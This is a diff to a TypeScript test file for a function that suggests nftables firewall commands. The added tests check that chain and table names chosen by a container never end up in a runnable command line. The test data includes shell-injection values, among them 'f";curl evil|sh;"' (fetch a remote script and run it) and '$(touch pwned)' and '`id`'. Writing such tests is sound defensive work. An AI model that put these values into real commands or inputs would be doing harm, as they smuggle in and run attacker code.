@@ -116,11 +116,11 @@ for (const [what, rest, forwarding, expected] of [
   ],
   [
     'nftables',
-    { family: 'inet', table: 'fw\u001b', name: 'f' },
+    { family: 'inet', table: 'fw', name: 'f' },
     PORTS,
     [
-      'nft insert rule inet fw\\u{1b} f ct state established,related accept',
-      'nft insert rule inet fw\\u{1b} f ct status dnat accept',
+      'nft insert rule inet fw f ct state established,related accept',
+      'nft insert rule inet fw f ct status dnat accept',
     ],
   ],
   ['a chain that accepts', { isDropping: false }, TUNNEL, undefined],
@@ -131,3 +131,30 @@ for (const [what, rest, forwarding, expected] of [
     if (why) assert.match(why, /^[\x20-\x7e]*$/);
   });
 }
+
+for (const [table, name] of [
+  ['f";curl evil|sh;"', 'f'],
+  ['fw', 'x$(touch pwned)'],
+  ['fw', '`id`'],
+  ['fw\u001b', 'f'],
+  ['fw', 'a b'],
+  ['fw', ''],
+  ['fw', '-f'],
+  ['fw', 'f'.repeat(61)],
+] as const) {
+  test(`no line to run has a name that a container has chosen for a shell: ${JSON.stringify([table, name])}`, () => {
+    const why = whyFiltered(PORTS, [chain([], { family: 'inet', table, name })])!;
+    assert.doesNotMatch(why, /nft insert|\p{Cc}/u);
+    assert.match(
+      why,
+      /have the container itself accept that: its chains have names for which no line can be given$/,
+    );
+  });
+}
+
+test('of many chains and interfaces all together are taken to 4096 rules, and then nothing is told', () => {
+  const rules = Array.from({ length: 600 }, () => by('tun0', undefined, ACCEPT));
+  const chains = Array.from({ length: 8 }, (_, n) => chain(rules, { name: `f${n}` }));
+  assert.match(whyFiltered(TUNNEL, chains.slice(0, 2)) ?? '', /drops what its labels forward/);
+  assert.equal(whyFiltered(TUNNEL, chains), undefined);
+});
